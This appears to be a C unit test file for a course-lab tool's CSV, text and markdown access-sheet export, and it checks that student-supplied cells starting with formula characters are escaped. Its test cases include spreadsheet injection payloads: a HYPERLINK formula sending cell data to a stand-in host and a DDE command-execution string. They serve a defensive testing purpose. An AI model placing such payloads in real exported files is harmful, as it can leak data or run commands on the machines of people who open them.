/* SPDX-License-Identifier: ISC */
/*
 * test_access.c - the access sheet as csv (labctl/access.c), as the rows
 * of course.create or course.access make it: quoting as RFC 4180 wants
 * it, and cells a spreadsheet would run as a formula kept text.  A
 * student's name is the student's to choose, so it is where a formula
 * would come from.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "labctl/labctl.h"
#include "testutil.h"

/* A row as course.access gives it, for a VM that publishes ssh. */
static json_t *
row(const char *name, const char *user)
{
	return json_pack("{s:s,s:s,s:s,s:i,s:s,s:s,s:s}", "name", name,
	    "vm", "c-x", "host", "127.0.0.1", "port", 22001, "user", user,
	    "password", "", "ssh", "ssh -p 22001 x@127.0.0.1");
}

/* The sheet in format for rows (taken over). */
static char *
sheet(int format, json_t *rows)
{
	char	*buf = NULL;
	size_t	 len = 0;
	FILE	*f = open_memstream(&buf, &len);

	cr_assert_not_null(f);
	sheet_print(f, format, "c", rows);
	fclose(f);
	json_decref(rows);
	return buf;
}

/* The first cell of the second line of a one-row csv sheet. */
static char *
first_cell(const char *name)
{
	char	*s = sheet(SHEET_CSV, json_pack("[o]", row(name, "x")));
	char	*line = strchr(s, '\n'), *end, *cell;

	cr_assert_not_null(line);
	line++;
	end = strstr(line, ",c-x,");
	cr_assert_not_null(end, "no vm cell after the name: %s", line);
	cell = strndup(line, end - line);
	free(s);
	return cell;
}

Test(access_csv, formulas_are_kept_text)
{
	static const struct {
		const char	*name, *cell;
	} cases[] = {
		{ "=HYPERLINK(\"http://x.example/\"&A1;\"click\")",
		  "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1;\"\"click\"\")\"" },
		{ "=1+1", "'=1+1" },
		{ "+1", "'+1" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
		{ "\t=1+1", "'\t=1+1" },
		{ "\r=1+1", "\"'\r=1+1\"" },
		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
		/* Not first: not a formula, left as it is. */
		{ "Ann", "Ann" },
		{ "Ann-Marie", "Ann-Marie" },
		{ "a=b", "a=b" },
		{ "O'Brien, Jr.", "\"O'Brien, Jr.\"" },
		{ "Al \"Big\" Lee", "\"Al \"\"Big\"\" Lee\"" },
		{ "", "" },
	};
	char	*cell;
	size_t	 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cell = first_cell(cases[i].name);
		cr_expect_str_eq(cell, cases[i].cell, "case %zu", i);
		free(cell);
	}
}

/* Every cell is looked at, not only the name. */
Test(access_csv, every_cell)
{
	char	*s = sheet(SHEET_CSV, json_pack("[o]", row("Ann", "-x")));

	cr_expect_str_eq(s, "name,vm,host,port,user,password,gateway,ssh,"
	    "ssh_config,vnc_password\n"
	    "Ann,c-x,127.0.0.1,22001,'-x,,,ssh -p 22001 x@127.0.0.1,"
	    "\"Host c-x\n    HostName 127.0.0.1\n    Port 22001\n    User -x\","
	    "\n");
	free(s);
}

/* A sheet of several rows: one line each, the header first. */
Test(access_csv, rows_and_header)
{
	const char	*head = "name,vm,host,port,user,password,gateway,ssh,"
			    "ssh_config,vnc_password\n'=A,c-x,";
	char		*s = sheet(SHEET_CSV, json_pack("[o,o]", row("=A", "a"),
			    row("B", "b")));

	cr_expect(strncmp(s, head, strlen(head)) == 0, "%s", s);
	cr_expect_not_null(strstr(s, "\nB,c-x,127.0.0.1,22001,b,,"), "%s", s);
	free(s);
}

/* A row with the gateway: its line first, the VM's port the fallback. */
static json_t *
gw_row(void)
{
	json_t	*r = row("Ann", "ann");

	json_object_set_new(r, "gw_host", json_string("203.0.113.10"));
	json_object_set_new(r, "gw_port", json_integer(2222));
	json_object_set_new(r, "gw_user", json_string("ann+c"));
	json_object_set_new(r, "gateway",
	    json_string("ssh -p 2222 ann+c@203.0.113.10"));
	return r;
}

Test(access_gateway, csv_has_the_gateway_and_its_stanza)
{
	char	*s = sheet(SHEET_CSV, json_pack("[o]", gw_row()));

	cr_expect_str_eq(s, "name,vm,host,port,user,password,gateway,ssh,"
	    "ssh_config,vnc_password\n"
	    "Ann,c-x,127.0.0.1,22001,ann,,ssh -p 2222 ann+c@203.0.113.10,"
	    "ssh -p 22001 x@127.0.0.1,"
	    "\"Host c-x\n    HostName 203.0.113.10\n    Port 2222\n"
	    "    User ann+c\",\n");
	free(s);
}

Test(access_gateway, text_puts_the_gateway_first)
{
	char	*s = sheet(SHEET_TEXT, json_pack("[o]", gw_row()));
	char	*gw = strstr(s, "ssh -p 2222 ann+c@203.0.113.10");
	char	*port = strstr(s, "or: ssh -p 22001 x@127.0.0.1");

	cr_assert_not_null(gw, "%s", s);
	cr_assert_not_null(port, "%s", s);
	cr_expect(gw < port, "%s", s);
	free(s);
}

Test(access_gateway, md_slip)
{
	char	*s = sheet(SHEET_MD, json_pack("[o]", gw_row()));

	cr_expect_not_null(strstr(s, "| `ssh -p 2222 ann+c@203.0.113.10` |"),
	    "%s", s);
	cr_expect_not_null(strstr(s, "- Log in: `ssh -p 2222 ann+c@203.0.113.10`"
	    "\n- Or, through your VM's own port: `ssh -p 22001 x@127.0.0.1`"),
	    "%s", s);
	cr_expect_not_null(strstr(s, "HostName 203.0.113.10\n    Port 2222\n"
	    "    User ann+c"), "%s", s);
	free(s);
}

/* With [vnc] on: the student's VNC password in csv, text and md. */
static json_t *
row_vnc(void)
{
	json_t	*r = row("Ann", "ann");

	json_object_set_new(r, "vnc_password", json_string("Xy7kPq2m"));
	json_object_set_new(r, "vnc", json_string("127.0.0.1:5900"));
	return r;
}

Test(access_vnc, csv_column)
{
	char	*s = sheet(SHEET_CSV, json_pack("[o]", row_vnc()));

	cr_expect_not_null(strstr(s, "User ann\",Xy7kPq2m\n"), "%s", s);
	free(s);
}

Test(access_vnc, text_line)
{
	char	*s = sheet(SHEET_TEXT, json_pack("[o]", row_vnc()));

	cr_expect_not_null(strstr(s, "vnc 127.0.0.1:5900"), "%s", s);
	cr_expect_not_null(strstr(s, "password: Xy7kPq2m\n"), "%s", s);
	free(s);
}

Test(access_vnc, md_line)
{
	char	*s = sheet(SHEET_MD, json_pack("[o]", row_vnc()));

	cr_expect_not_null(strstr(s, "- Screen (VNC): `127.0.0.1:5900`,"
	    " password `Xy7kPq2m`\n"), "%s", s);
	free(s);
}

Test(access_vnc, none_when_off)
{
	char	*s = sheet(SHEET_TEXT, json_pack("[o]", row("Ann", "ann")));

	cr_expect_null(strstr(s, "vnc"), "%s", s);
	free(s);
}
